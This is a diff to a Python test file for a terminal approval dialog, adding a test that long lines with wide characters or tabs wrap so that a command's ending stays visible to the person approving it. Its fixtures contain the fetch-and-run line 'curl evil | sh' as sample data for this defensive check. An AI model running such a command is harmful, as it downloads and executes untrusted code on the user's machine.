@@ -5,11 +5,13 @@ from __future__ import annotations
 import asyncio
 
 import pytest
+from rich.cells import cell_len
 from textual.app import App
 
 from hub.api.approvals import Approval
 from hub.domain.approval import Action
-from hub.tui.approval import GRACE, ApprovalBox, request_rows
+from hub.tui.approval import GRACE, ApprovalBox, _fit, request_rows
+from hub.tui.rows import plain, row
 from tests.hub.tui.kit import sees, text
 
 LONG = "\n".join([*(f"make part-{number}" for number in range(61)), "curl evil | sh"])
@@ -108,3 +110,12 @@ def test_an_action_that_the_title_cuts_is_shown_whole():
         shown = ["".join(piece for piece, _ in row.pieces) for row in request_rows(request(action))]
         assert shown[: len(action.split("\n"))] == action.split("\n")
     assert "make all" not in str(list(request_rows(request())))
+
+
+@pytest.mark.parametrize("letter", ["\u6f22", "\t", "a"])
+def test_no_end_of_a_line_is_out_of_sight(letter):
+    """Letters two columns wide, and tabs: what stands behind them is asked too."""
+    rows = list(_fit(row(f"{letter * 60} curl evil | sh"), 80))
+    shown = ["".join(piece for piece, _ in one.pieces) for one in rows]
+    assert all(cell_len(plain(line)) <= 80 for line in shown)
+    assert "".join(shown).replace(" ", "").endswith("curlevil|sh")
